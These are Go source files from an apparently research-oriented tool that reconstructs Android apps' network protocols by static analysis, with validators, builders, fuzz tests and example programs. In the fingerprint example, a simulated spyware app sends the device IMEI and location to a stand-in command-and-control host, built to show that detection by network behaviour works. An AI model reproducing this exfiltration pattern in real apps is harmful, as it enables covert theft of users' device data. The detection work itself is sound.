	for _, c := range p.Classes() {
		for _, m := range c.Methods {
			if err := validateMethod(m); err != nil {
				return fmt.Errorf("%s: %w", m.Ref(), err)
			}
		}
	}
	for _, ep := range p.Manifest.EntryPoints {
		if p.Method(ep.Method) == nil {
			return fmt.Errorf("entry point %s: method not found", ep.Method)
		}
	}
	return nil
}

func validateMethod(m *Method) error {
	if m.NumParamRegs() > m.Registers {
		return fmt.Errorf("declares %d registers but has %d parameter registers",
			m.Registers, m.NumParamRegs())
	}
	check := func(i int, r int) error {
		if r != NoReg && (r < 0 || r >= m.Registers) {
			return fmt.Errorf("instr %d: register r%d out of range [0,%d)", i, r, m.Registers)
		}
		return nil
	}
	for i := range m.Instrs {
		in := &m.Instrs[i]
		if in.IsBranch() {
			if in.Target < 0 || in.Target >= len(m.Instrs) {
				return fmt.Errorf("instr %d: branch target %d out of range", i, in.Target)
			}
		}
		for _, r := range append([]int{in.Dst, in.A, in.B}, in.Args...) {
			if err := check(i, r); err != nil {
				return err
			}
		}
	}
	if n := len(m.Instrs); n > 0 {
		last := &m.Instrs[n-1]
		if !last.Terminates() {
			return fmt.Errorf("falls off the end (last instr %s)", last.Op)
		}
	}
	return nil
}

// Disassemble renders every app class of the program in assembly-like
// text, the debugging view of an .apkb container.
func (p *Program) Disassemble() string {
	var b strings.Builder
	fmt.Fprintf(&b, "package %s (%s)\n", p.Manifest.Package, p.Manifest.AppName)
	for _, ep := range p.Manifest.EntryPoints {
		fmt.Fprintf(&b, "entry %s [%s]\n", ep.Method, ep.Kind)
	}
	keys := make([]string, 0, len(p.Resources))
	for k := range p.Resources {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(&b, "resource %s = %q\n", k, p.Resources[k])
	}
	for _, c := range p.AppClasses() {
		fmt.Fprintf(&b, "\nclass %s", c.Name)
		if c.Super != "" {
			fmt.Fprintf(&b, " extends %s", c.Super)
		}
		if len(c.Interfaces) > 0 {
			fmt.Fprintf(&b, " implements %s", strings.Join(c.Interfaces, ", "))
		}
		b.WriteString("\n")
		for _, f := range c.Fields {
			static := ""
			if f.Static {
				static = "static "
			}
			fmt.Fprintf(&b, "  field %s%s %s\n", static, f.Type, f.Name)
		}
		for _, m := range c.Methods {
			b.WriteString(indent(m.String(), "  "))
			b.WriteString("\n")
		}
	}
	return b.String()
}

func indent(s, prefix string) string {
	lines := strings.Split(s, "\n")
	for i := range lines {
		lines[i] = prefix + lines[i]
	}
	return strings.Join(lines, "\n")
}

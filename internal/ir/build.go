package ir

import "fmt"

// B is a fluent method-body builder. It allocates registers, records
// instructions, and patches symbolic labels into instruction indices when
// Done is called. Builders panic on misuse (unknown label, double Done):
// they are authoring tools for tests and the corpus generator, so misuse is
// a programming error, not a runtime condition.
type B struct {
	m      *Method
	next   int            // next free register
	labels map[string]int // label -> instruction index
	fixups []fixup
	done   bool
}

type fixup struct {
	instr int
	label string
}

// NewMethod creates a method on cls and returns a builder for its body.
// Parameter registers are pre-allocated: use Param to obtain them.
func NewMethod(cls *Class, name string, static bool, params []string, ret string) *B {
	m := &Method{Name: name, Params: params, Return: ret, Static: static}
	cls.AddMethod(m)
	b := &B{m: m, labels: map[string]int{}}
	b.next = m.NumParamRegs()
	return b
}

// Method returns the method under construction.
func (b *B) Method() *Method { return b.m }

// This returns the receiver register (register 0) for instance methods.
func (b *B) This() int {
	if b.m.Static {
		panic("ir: This on static method " + b.m.Name)
	}
	return 0
}

// Param returns the register holding the i-th declared parameter.
func (b *B) Param(i int) int {
	if i < 0 || i >= len(b.m.Params) {
		panic(fmt.Sprintf("ir: param %d out of range in %s", i, b.m.Name))
	}
	if b.m.Static {
		return i
	}
	return i + 1
}

// Reg allocates a fresh register.
func (b *B) Reg() int {
	r := b.next
	b.next++
	return r
}

func (b *B) emit(in Instr) int {
	b.m.Instrs = append(b.m.Instrs, in)
	return len(b.m.Instrs) - 1
}

// ConstStr loads a string literal into a fresh register and returns it.
func (b *B) ConstStr(s string) int {
	r := b.Reg()
	b.emit(Instr{Op: OpConstStr, Dst: r, A: NoReg, B: NoReg, Str: s, Target: -1})
	return r
}

// ConstInt loads an integer literal into a fresh register and returns it.
func (b *B) ConstInt(v int64) int {
	r := b.Reg()
	b.emit(Instr{Op: OpConstInt, Dst: r, A: NoReg, B: NoReg, Int: v, Target: -1})
	return r
}

// ConstNull loads null into a fresh register and returns it.
func (b *B) ConstNull() int {
	r := b.Reg()
	b.emit(Instr{Op: OpConstNull, Dst: r, A: NoReg, B: NoReg, Target: -1})
	return r
}

// Move copies src into a fresh register and returns it.
func (b *B) Move(src int) int {
	r := b.Reg()
	b.emit(Instr{Op: OpMove, Dst: r, A: src, B: NoReg, Target: -1})
	return r
}

// MoveTo copies src into dst.
func (b *B) MoveTo(dst, src int) {
	b.emit(Instr{Op: OpMove, Dst: dst, A: src, B: NoReg, Target: -1})
}

// New allocates an object of the given type into a fresh register.
func (b *B) New(typ string) int {
	r := b.Reg()
	b.emit(Instr{Op: OpNew, Dst: r, A: NoReg, B: NoReg, Sym: typ, Target: -1})
	return r
}

// Invoke emits a virtual call recv.method(args...) returning a fresh
// register holding the result.
func (b *B) Invoke(method string, recv int, args ...int) int {
	r := b.Reg()
	b.invoke(InvokeVirtual, r, method, append([]int{recv}, args...))
	return r
}

// InvokeVoid emits a virtual call whose result is discarded.
func (b *B) InvokeVoid(method string, recv int, args ...int) {
	b.invoke(InvokeVirtual, NoReg, method, append([]int{recv}, args...))
}

// InvokeStatic emits a static call returning a fresh register.
func (b *B) InvokeStatic(method string, args ...int) int {
	r := b.Reg()
	b.invoke(InvokeStatic, r, method, args)
	return r
}

// InvokeStaticVoid emits a static call whose result is discarded.
func (b *B) InvokeStaticVoid(method string, args ...int) {
	b.invoke(InvokeStatic, NoReg, method, args)
}

// InvokeSpecial emits an exact (constructor/super) call with no result.
func (b *B) InvokeSpecial(method string, recv int, args ...int) {
	b.invoke(InvokeSpecial, NoReg, method, append([]int{recv}, args...))
}

func (b *B) invoke(kind InvokeKind, dst int, method string, args []int) {
	cp := make([]int, len(args))
	copy(cp, args)
	b.emit(Instr{Op: OpInvoke, Dst: dst, A: NoReg, B: NoReg, Kind: kind,
		Sym: method, Args: cp, Target: -1})
}

// FieldGet loads obj.field into a fresh register.
func (b *B) FieldGet(obj int, field string) int {
	r := b.Reg()
	b.emit(Instr{Op: OpFieldGet, Dst: r, A: obj, B: NoReg, Sym: field, Target: -1})
	return r
}

// FieldPut stores src into obj.field.
func (b *B) FieldPut(obj int, field string, src int) {
	b.emit(Instr{Op: OpFieldPut, Dst: NoReg, A: obj, B: src, Sym: field, Target: -1})
}

// StaticGet loads the static field "Class.field" into a fresh register.
func (b *B) StaticGet(ref string) int {
	r := b.Reg()
	b.emit(Instr{Op: OpStaticGet, Dst: r, A: NoReg, B: NoReg, Sym: ref, Target: -1})
	return r
}

// StaticPut stores src into the static field "Class.field".
func (b *B) StaticPut(ref string, src int) {
	b.emit(Instr{Op: OpStaticPut, Dst: NoReg, A: NoReg, B: src, Sym: ref, Target: -1})
}

// Binop applies an integer operator to a and c, returning a fresh register.
func (b *B) Binop(op string, a, c int) int {
	r := b.Reg()
	b.emit(Instr{Op: OpBinop, Dst: r, A: a, B: c, Sym: op, Target: -1})
	return r
}

// Label declares a jump target at the next emitted instruction.
func (b *B) Label(name string) {
	if _, dup := b.labels[name]; dup {
		panic("ir: duplicate label " + name + " in " + b.m.Name)
	}
	b.labels[name] = len(b.m.Instrs)
}

// IfZ branches to label when r is zero/null.
func (b *B) IfZ(r int, label string) {
	i := b.emit(Instr{Op: OpIfZ, Dst: NoReg, A: r, B: NoReg, Target: -1})
	b.fixups = append(b.fixups, fixup{i, label})
}

// IfNZ branches to label when r is non-zero.
func (b *B) IfNZ(r int, label string) {
	i := b.emit(Instr{Op: OpIfNZ, Dst: NoReg, A: r, B: NoReg, Target: -1})
	b.fixups = append(b.fixups, fixup{i, label})
}

// IfEq branches to label when x == y.
func (b *B) IfEq(x, y int, label string) {
	i := b.emit(Instr{Op: OpIfEq, Dst: NoReg, A: x, B: y, Target: -1})
	b.fixups = append(b.fixups, fixup{i, label})
}

// IfNe branches to label when x != y.
func (b *B) IfNe(x, y int, label string) {
	i := b.emit(Instr{Op: OpIfNe, Dst: NoReg, A: x, B: y, Target: -1})
	b.fixups = append(b.fixups, fixup{i, label})
}

// Goto branches unconditionally to label.
func (b *B) Goto(label string) {
	i := b.emit(Instr{Op: OpGoto, Dst: NoReg, A: NoReg, B: NoReg, Target: -1})
	b.fixups = append(b.fixups, fixup{i, label})
}

// Return emits a value return.
func (b *B) Return(r int) {
	b.emit(Instr{Op: OpReturn, Dst: NoReg, A: r, B: NoReg, Target: -1})
}

// ReturnVoid emits a void return.
func (b *B) ReturnVoid() {
	b.emit(Instr{Op: OpReturn, Dst: NoReg, A: NoReg, B: NoReg, Target: -1})
}

// Done patches labels, finalizes the register count, and returns the
// completed method. A builder must not be used after Done.
func (b *B) Done() *Method {
	if b.done {
		panic("ir: Done called twice on " + b.m.Name)
	}
	b.done = true
	for _, f := range b.fixups {
		idx, ok := b.labels[f.label]
		if !ok {
			panic("ir: undefined label " + f.label + " in " + b.m.Name)
		}
		if idx >= len(b.m.Instrs) {
			panic("ir: label " + f.label + " points past end of " + b.m.Name)
		}
		b.m.Instrs[f.instr].Target = idx
	}
	if len(b.m.Instrs) == 0 || !b.m.Instrs[len(b.m.Instrs)-1].Terminates() {
		b.m.Instrs = append(b.m.Instrs, Instr{Op: OpReturn, Dst: NoReg, A: NoReg, B: NoReg, Target: -1})
	}
	b.m.Registers = b.next
	return b.m
}

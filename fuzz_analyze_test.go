// FuzzAnalyzeDecoded drives decoder-accepted mutations of real corpus
// containers through the full analysis pipeline under a tight budget. The
// decoder already guarantees structural sanity (FuzzDexDecode); this
// target guards the layer above it: whatever the decoder accepts,
// core.Analyze must finish — degraded if need be — without panicking and
// within the deadline, because shipped binaries see exactly this input.
package extractocol

import (
	"encoding/binary"
	"hash/crc32"
	"testing"
	"time"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/dex"
	"extractocol/internal/obs"
)

func FuzzAnalyzeDecoded(f *testing.F) {
	for _, name := range []string{"Diode", "radio reddit", "TED"} {
		app, err := corpus.ByName(name)
		if err != nil {
			f.Fatal(err)
		}
		data, err := dex.Encode(app.Prog)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}

	f.Fuzz(func(t *testing.T, data []byte) {
		// Re-seal the mutated payload so it reaches the section parsers
		// instead of dying at the checksum (same trick as FuzzDexDecode).
		if len(data) < 10 {
			return
		}
		sealed := append([]byte(nil), data...)
		copy(sealed[:4], dex.Magic[:])
		binary.LittleEndian.PutUint16(sealed[4:6], dex.Version)
		binary.LittleEndian.PutUint32(sealed[6:10], crc32.ChecksumIEEE(sealed[10:]))

		prog, err := dex.Decode(sealed)
		if err != nil {
			return // decoder rejection is FuzzDexDecode's territory
		}

		opts := core.NewOptions()
		opts.Deadline = 500 * time.Millisecond
		opts.MaxSliceSteps = 20000
		opts.MaxFixpointIters = 2000
		// The tracing + explain layer rides along on every fuzz input: span
		// teardown (shard flush on panicking/truncated jobs) and evidence
		// assembly must survive whatever the decoder accepts, too.
		opts.Tracer = obs.NewTracer()
		opts.Explain = true
		start := time.Now()
		rep, err := core.Analyze(prog, opts)
		if err == nil && rep == nil {
			t.Fatal("analysis returned neither report nor error")
		}
		if _, jerr := opts.Tracer.Export(1, "fuzz").JSON(); jerr != nil {
			t.Fatalf("trace export failed: %v", jerr)
		}
		// The deadline is polled at every loop head, so even a degenerate
		// program cannot hold the pipeline much past it.
		if el := time.Since(start); el > 10*time.Second {
			t.Fatalf("analysis ran %v despite a 500ms deadline", el)
		}
	})
}

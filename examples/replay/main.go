// Replay: the §5.3 reverse-engineering study. Extractocol's scoped
// analysis of the Kayak app recovers the private REST API — including the
// load-bearing User-Agent header and the authajax -> flight/start ->
// flight/poll session flow. This program is the Go analog of the paper's
// 73-line Python script: it drives the flight-fare search using ONLY
// information from the analysis report, against the simulated backend.
//
//	go run ./examples/replay
package main

import (
	"encoding/json"
	"fmt"
	"log"
	"strings"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/httpsim"
	"extractocol/internal/siglang"
)

func main() {
	log.SetFlags(0)
	app := corpus.Kayak()

	// Reverse-engineer the API, scoped to com.kayak (excluding ad libs).
	opts := core.NewOptions()
	opts.ScopePrefix = "com.kayak."
	rep, err := core.Analyze(app.Prog, opts)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("recovered %d API endpoints from the binary\n", len(rep.Transactions))

	auth := findTx(rep, "authajax")
	start := findTx(rep, "flight/start")
	poll := findTx(rep, "flight/poll")
	if auth == nil || start == nil || poll == nil {
		log.Fatal("replay: flight-search endpoints not recovered")
	}
	ua := headerValue(auth, "User-Agent")
	if ua == "" {
		log.Fatal("replay: User-Agent header not recovered")
	}
	fmt.Printf("app-specific header: User-Agent: %s\n\n", ua)

	net := app.NewNetwork()
	send := func(method, url, body string) *httpsim.Response {
		resp := net.RoundTrip(&httpsim.Request{
			Method:  method,
			URL:     url,
			Headers: map[string]string{"User-Agent": ua},
			Body:    body,
		})
		fmt.Printf("%s %s -> %d\n", method, url, resp.Status)
		return resp
	}

	// Step 1: /k/authajax with the recovered registration body. Wildcard
	// fields are filled with plausible device values, as the paper's
	// script does.
	authBody := fill(siglang.RegexBody(auth.Request.Body), map[string]string{
		"uuid": "d3adb33f", "hash": "cafe01", "model": "Pixel",
		"os": "11", "locale": "en_US", "tz": "UTC",
	})
	resp := send("POST", literalURI(auth), authBody)
	sid := jsonField(resp.Body, "_sid_")
	if sid == "" {
		log.Fatal("replay: no _sid_ in authajax response")
	}

	// Step 2: /flight/start with the recovered query-string template.
	startURL := fill(siglang.RegexBody(start.Request.URI), map[string]string{
		"cabin": "e", "travelers": "1", "origin": "SFO",
		"destination": "ICN", "depart_date": "2016-12-12", "_sid_": sid,
	})
	resp = send("GET", startURL, "")
	searchid := jsonField(resp.Body, "searchid")
	if searchid == "" {
		log.Fatal("replay: no searchid in flight/start response")
	}

	// Step 3: /flight/poll for the fares.
	pollURL := fill(siglang.RegexBody(poll.Request.URI), map[string]string{
		"searchid": searchid, "currency": "USD",
	})
	resp = send("GET", pollURL, "")
	if resp.Status != 200 {
		log.Fatal("replay: poll failed")
	}
	fmt.Printf("\nflight fares retrieved: cheapest %s %s\n",
		jsonField(resp.Body, "cheapest"), jsonField(resp.Body, "currencyCode"))
}

func findTx(rep *core.Report, frag string) *core.Transaction {
	for _, tx := range rep.Transactions {
		if strings.Contains(siglang.RegexBody(tx.Request.URI), frag) {
			return tx
		}
	}
	return nil
}

func headerValue(tx *core.Transaction, name string) string {
	for _, h := range tx.Request.Headers {
		if h.Key == name {
			if l, ok := h.Val.(*siglang.Lit); ok {
				return l.Val
			}
		}
	}
	return ""
}

// literalURI strips regex quoting from a fully literal URI signature.
func literalURI(tx *core.Transaction) string {
	return unquote(siglang.RegexBody(tx.Request.URI))
}

func unquote(re string) string {
	return strings.NewReplacer(`\.`, ".", `\?`, "?", `\/`, "/", `\&`, "&").Replace(re)
}

// fill replaces each "key=.*" wildcard in a recovered template with the
// provided value, producing a concrete request.
func fill(re string, values map[string]string) string {
	s := unquote(re)
	for k, v := range values {
		s = strings.Replace(s, k+"=.*", k+"="+v, 1)
	}
	// Any remaining wildcards become empty values.
	s = strings.ReplaceAll(s, "=.*", "=")
	return s
}

func jsonField(body, key string) string {
	var m map[string]any
	if err := json.Unmarshal([]byte(body), &m); err != nil {
		return ""
	}
	s, _ := m[key].(string)
	return s
}

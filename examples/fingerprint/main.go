// Fingerprint: the §2 security motivation. Signature-based malware
// detection over binary patterns is defeated by trivial repackaging
// (identifier renaming, instruction reordering). Extractocol's network
// behavior fingerprint — the set of request signatures and their
// dependencies — survives repackaging, because the protocol the malware
// speaks to its command-and-control server cannot change without breaking
// the malware.
//
// This example builds a spyware-like app, detects it by network behavior,
// then repackages it (ProGuard-style renaming) and shows that the byte
// fingerprint breaks while the network fingerprint still matches.
//
//	go run ./examples/fingerprint
package main

import (
	"crypto/sha256"
	"fmt"
	"log"
	"sort"
	"strings"

	"extractocol/internal/core"
	"extractocol/internal/dex"
	"extractocol/internal/ir"
	"extractocol/internal/obfuscate"
	"extractocol/internal/siglang"
)

// buildSpyware authors an app that reads the device ID and location and
// exfiltrates them to a command-and-control host.
func buildSpyware() *ir.Program {
	p := ir.NewProgram("com.innocent.flashlight")
	c := p.AddClass(&ir.Class{Name: "com.innocent.flashlight.Sync"})
	b := ir.NewMethod(c, "onCreate", false, nil, "void")
	tm := b.New("android.telephony.TelephonyManager")
	imei := b.Invoke("android.telephony.TelephonyManager.getDeviceId", tm)
	loc := b.New("android.location.Location")
	lat := b.Invoke("android.location.Location.getLatitude", loc)
	sb := b.New("java.lang.StringBuilder")
	b.InvokeSpecial("java.lang.StringBuilder.<init>", sb)
	s1 := b.ConstStr("imei=")
	b.InvokeVoid("java.lang.StringBuilder.append", sb, s1)
	b.InvokeVoid("java.lang.StringBuilder.append", sb, imei)
	s2 := b.ConstStr("&lat=")
	b.InvokeVoid("java.lang.StringBuilder.append", sb, s2)
	b.InvokeVoid("java.lang.StringBuilder.append", sb, lat)
	body := b.Invoke("java.lang.StringBuilder.toString", sb)
	ent := b.New("org.apache.http.entity.StringEntity")
	b.InvokeSpecial("org.apache.http.entity.StringEntity.<init>", ent, body)
	u := b.ConstStr("http://cnc.badhost.example/gate.php")
	req := b.New("org.apache.http.client.methods.HttpPost")
	b.InvokeSpecial("org.apache.http.client.methods.HttpPost.<init>", req, u)
	b.InvokeVoid("org.apache.http.client.methods.HttpPost.setEntity", req, ent)
	cl := b.New("org.apache.http.impl.client.DefaultHttpClient")
	b.InvokeSpecial("org.apache.http.impl.client.DefaultHttpClient.<init>", cl)
	resp := b.Invoke("org.apache.http.client.HttpClient.execute", cl, req)
	ent2 := b.Invoke("org.apache.http.HttpResponse.getEntity", resp)
	raw := b.InvokeStatic("org.apache.http.util.EntityUtils.toString", ent2)
	js := b.InvokeStatic("org.json.JSONObject.parse", raw)
	k := b.ConstStr("cmd")
	b.Invoke("org.json.JSONObject.getString", js, k)
	b.ReturnVoid()
	b.Done()
	p.Manifest.EntryPoints = []ir.EntryPoint{{Method: c.Name + ".onCreate", Kind: ir.EventCreate}}
	return p
}

// networkFingerprint derives the behavior fingerprint: sorted request
// signatures plus observed sources.
func networkFingerprint(p *ir.Program) (string, error) {
	rep, err := core.Analyze(p, core.NewOptions())
	if err != nil {
		return "", err
	}
	var sigs []string
	for _, tx := range rep.Transactions {
		line := tx.Request.Method + " " + siglang.Canon(tx.Request.URI) +
			" body:" + siglang.Canon(tx.Request.Body) +
			" sources:" + strings.Join(tx.Sources, "+")
		sigs = append(sigs, line)
	}
	sort.Strings(sigs)
	return strings.Join(sigs, "\n"), nil
}

func byteFingerprint(p *ir.Program) (string, error) {
	data, err := dex.Encode(p)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("%x", sha256.Sum256(data)), nil
}

func main() {
	log.SetFlags(0)

	original := buildSpyware()
	knownBytes, err := byteFingerprint(original)
	if err != nil {
		log.Fatal(err)
	}
	knownNet, err := networkFingerprint(original)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("known malware byte fingerprint:   ", knownBytes[:16]+"...")
	fmt.Println("known malware network fingerprint:")
	for _, l := range strings.Split(knownNet, "\n") {
		fmt.Println("   ", l)
	}

	// The attacker repackages: rename everything.
	variant := buildSpyware()
	obfuscate.Apply(variant, obfuscate.Options{KeepEntryPoints: true})

	vBytes, err := byteFingerprint(variant)
	if err != nil {
		log.Fatal(err)
	}
	vNet, err := networkFingerprint(variant)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("\nafter repackaging (ProGuard-style renaming):")
	fmt.Printf("  byte fingerprint match:    %v\n", vBytes == knownBytes)
	fmt.Printf("  network fingerprint match: %v\n", vNet == knownNet)
	if vBytes == knownBytes {
		log.Fatal("unexpected: repackaging did not change the bytes")
	}
	if vNet != knownNet {
		log.Fatal("network fingerprint should survive repackaging")
	}
	fmt.Println("\nthe variant evades byte signatures but is caught by its protocol behavior:")
	fmt.Println("  POST to cnc.badhost.example carrying device-ID and location data")
}

// Prefetch: the Fig. 1 application-acceleration scenario. Extractocol's
// dependency graph for TED shows that the android_ad.json response carries
// the URL of an advertisement resource whose own response carries the ad
// video URI, which the app feeds to the media player. A proxy that knows
// this can fetch the whole chain the moment the first response passes by,
// so the video is already local when the player asks.
//
// This example builds that prefetcher from the analysis output alone and
// demonstrates it against the simulated TED backend.
//
//	go run ./examples/prefetch
package main

import (
	"encoding/json"
	"fmt"
	"log"
	"strings"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/httpsim"
	"extractocol/internal/runtime"
	"extractocol/internal/siglang"
)

func main() {
	log.SetFlags(0)
	app := corpus.TED()

	// Static analysis: find the transaction whose URI depends on a prior
	// response field — those are the prefetchable edges.
	rep, err := core.Analyze(app.Prog, core.NewOptions())
	if err != nil {
		log.Fatal(err)
	}
	type edge struct {
		fromID    int
		fromField string
		toID      int
	}
	var chain []edge
	byID := map[int]*core.Transaction{}
	for _, tx := range rep.Transactions {
		byID[tx.ID] = tx
	}
	for _, d := range rep.Deps {
		if d.ToPart != "uri" || d.FromField == "" {
			continue
		}
		chain = append(chain, edge{fromID: d.From, fromField: d.FromField, toID: d.To})
	}
	if len(chain) == 0 {
		log.Fatal("prefetch: no URI dependencies found")
	}
	fmt.Println("prefetchable edges discovered by Extractocol:")
	for _, e := range chain {
		fmt.Printf("  tx#%d response field %q feeds tx#%d's URI\n", e.fromID, e.fromField, e.toID)
	}

	// Dynamic side: a "proxy" watches responses; whenever a response
	// matches a transaction that feeds a later URI, it fetches that URI
	// immediately. We simulate by running the app and replaying its trace
	// through the proxy logic.
	net := app.NewNetwork()
	vm := runtime.New(app.Prog, net)
	for _, ep := range app.Prog.Manifest.EntryPoints {
		_ = vm.Fire(ep) // some handlers fail without prior state; fine
	}

	watch := map[int][]edge{} // fromID -> edges
	for _, e := range chain {
		watch[e.fromID] = append(watch[e.fromID], e)
	}

	prefetched := 0
	for _, t := range net.Trace() {
		if t.Response.Type != "json" {
			continue
		}
		for _, tx := range rep.Transactions {
			re, err := siglang.Compile(tx.Request.URI)
			if err != nil || tx.Request.Method != t.Request.Method || !re.MatchString(t.Request.URL) {
				continue
			}
			for _, e := range watch[tx.ID] {
				uri := extractField(t.Response.Body, e.fromField)
				if uri == "" || !strings.HasPrefix(uri, "http") {
					continue
				}
				resp := net.RoundTrip(&httpsim.Request{Method: "GET", URL: uri})
				if resp.Status == 200 {
					prefetched++
					fmt.Printf("prefetched %s for tx#%d (%d bytes, %s)\n",
						uri, e.toID, len(resp.Body), resp.Type)
				}
			}
		}
	}
	if prefetched == 0 {
		log.Fatal("prefetch: nothing prefetched")
	}
	fmt.Printf("\n%d resources prefetched before the app asked for them\n", prefetched)
}

// extractField pulls a dotted-path string field out of a JSON body.
func extractField(body, path string) string {
	var v any
	if err := json.Unmarshal([]byte(body), &v); err != nil {
		return ""
	}
	for _, part := range strings.Split(path, ".") {
		m, ok := v.(map[string]any)
		if !ok {
			return ""
		}
		v = m[part]
	}
	s, _ := v.(string)
	return s
}

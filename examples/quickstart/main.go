// Quickstart: analyze the bundled Diode app (the paper's Fig. 3 running
// example) straight from its binary container and print the reconstructed
// request signatures, exactly as a downstream user of the library would.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"
	"os"
	"path/filepath"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/dex"
	"extractocol/internal/report"
	"extractocol/internal/siglang"
)

func main() {
	log.SetFlags(0)

	// Step 1: obtain the application binary. The corpus builds Diode and
	// we round-trip it through the .apkb container to demonstrate that the
	// binary is the analysis' only input.
	app := corpus.Diode()
	dir, err := os.MkdirTemp("", "extractocol-quickstart")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)
	apk := filepath.Join(dir, "diode.apkb")
	if err := dex.WriteFile(apk, app.Prog); err != nil {
		log.Fatal(err)
	}
	prog, err := dex.ReadFile(apk)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("loaded %s: %d classes, %d instructions\n\n",
		apk, len(prog.Classes()), prog.InstrCount())

	// Step 2: run the analysis.
	rep, err := core.Analyze(prog, core.NewOptions())
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(report.Text(rep))

	// Step 3: the Fig. 3 signature. One transaction combines all nine URI
	// patterns of DownloadThreadsTask into a single regular expression.
	fmt.Println("\nFig. 3 check — the DownloadThreadsTask signature accepts:")
	for _, tx := range rep.Transactions {
		re, err := siglang.Compile(tx.Request.URI)
		if err != nil {
			continue
		}
		matched := 0
		for _, uri := range corpus.DiodeFigure3URIs() {
			if re.MatchString(uri) {
				matched++
			}
		}
		if matched == len(corpus.DiodeFigure3URIs()) {
			for _, uri := range corpus.DiodeFigure3URIs() {
				fmt.Printf("  %s\n", uri)
			}
			fmt.Printf("  (signature: %s)\n", tx.URIRegex())
			return
		}
	}
	log.Fatal("quickstart: no signature covered the Fig. 3 URI set")
}

// Live telemetry plane, end to end: the event stream brackets an analysis,
// phase latency histograms carry plausible quantiles into the profile, a
// live ops endpoint exposes Prometheus series mid-run, and the flight
// recorder lands recent worker spans in the diagnostic of an injected
// panic. The benchmarks at the bottom pin the plane's costs: recording one
// histogram observation is allocation-free, and the disabled plane adds
// nothing to the span-instrumented hot path.
package extractocol

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"

	"extractocol/internal/budget"
	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/obs"
	"extractocol/internal/ops"
)

// TestAnalyzeEventStream wires an event log into one analysis and checks
// the JSONL stream: monotonic sequence numbers from 1, a run_start/run_end
// bracket, and one phase_start/phase_end pair per profiled phase.
func TestAnalyzeEventStream(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	ev := obs.NewEventLog(&buf)
	opts := core.NewOptions()
	opts.Events = ev
	rep, err := core.Analyze(app.Prog, opts)
	if err != nil {
		t.Fatal(err)
	}
	if err := ev.Close(); err != nil {
		t.Fatal(err)
	}

	var events []obs.Event
	sc := bufio.NewScanner(&buf)
	for sc.Scan() {
		var e obs.Event
		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
			t.Fatalf("bad event line %q: %v", sc.Text(), err)
		}
		events = append(events, e)
	}
	if len(events) < 4 {
		t.Fatalf("only %d events", len(events))
	}
	for i, e := range events {
		if e.Seq != int64(i+1) {
			t.Fatalf("event %d has seq %d, want %d", i, e.Seq, i+1)
		}
		if e.App != rep.Package {
			t.Errorf("event %d names app %q, want %q", i, e.App, rep.Package)
		}
	}
	if events[0].Type != obs.EvRunStart {
		t.Errorf("first event is %q, want run_start", events[0].Type)
	}
	if last := events[len(events)-1]; last.Type != obs.EvRunEnd || last.DurNS <= 0 {
		t.Errorf("last event is %q (dur %d), want run_end with a duration", last.Type, last.DurNS)
	}
	starts := map[string]int{}
	ends := map[string]int{}
	for _, e := range events {
		switch e.Type {
		case obs.EvPhaseStart:
			starts[e.Phase]++
		case obs.EvPhaseEnd:
			ends[e.Phase]++
			if e.DurNS < 0 {
				t.Errorf("phase %q ended with negative duration", e.Phase)
			}
		}
	}
	for _, ph := range rep.Profile.Phases {
		if starts[ph.Name] != 1 || ends[ph.Name] != 1 {
			t.Errorf("phase %q: %d starts, %d ends, want 1/1", ph.Name, starts[ph.Name], ends[ph.Name])
		}
	}
}

// TestAnalyzeProfileQuantiles checks the tentpole's profile surface: every
// profiled phase has a latency histogram whose sum equals the phase
// duration and whose quantiles are ordered, and the whole-analysis
// histogram covers the run.
func TestAnalyzeProfileQuantiles(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := core.Analyze(app.Prog, core.NewOptions())
	if err != nil {
		t.Fatal(err)
	}
	prof := rep.Profile
	for _, ph := range prof.Phases {
		h := prof.Hist(obs.HistPhasePrefix + ph.Name)
		if h == nil {
			t.Errorf("phase %q has no latency histogram", ph.Name)
			continue
		}
		if h.Count != 1 || h.SumNS != ph.DurationNS {
			t.Errorf("phase %q histogram: count %d sum %d, want 1 observation summing to %d",
				ph.Name, h.Count, h.SumNS, ph.DurationNS)
		}
		if h.P50NS <= 0 || h.P50NS > h.P90NS || h.P90NS > h.P99NS || h.P99NS > h.MaxNS {
			t.Errorf("phase %q quantiles out of order: p50=%d p90=%d p99=%d max=%d",
				ph.Name, h.P50NS, h.P90NS, h.P99NS, h.MaxNS)
		}
	}
	if h := prof.Hist(obs.HistAnalyze); h == nil || h.Count != 1 {
		t.Errorf("whole-analysis histogram missing or empty: %+v", h)
	}
	// Per-job histograms fan out over workers; the slice phase always runs
	// at least one job on this app.
	if h := prof.Hist(obs.HistSliceJob); h == nil || h.Count == 0 {
		t.Errorf("slice job histogram missing or empty: %+v", h)
	}
}

// TestOpsEndpointLiveScrape runs analyses registered with a live registry
// and scrapes the ops endpoint over real HTTP: /metrics must expose the
// per-phase latency histogram series and counter totals, /healthz must
// report ok.
func TestOpsEndpointLiveScrape(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	reg := obs.NewRegistry()
	srv, err := ops.Serve("127.0.0.1:0", reg)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	opts := core.NewOptions()
	opts.Obs = reg
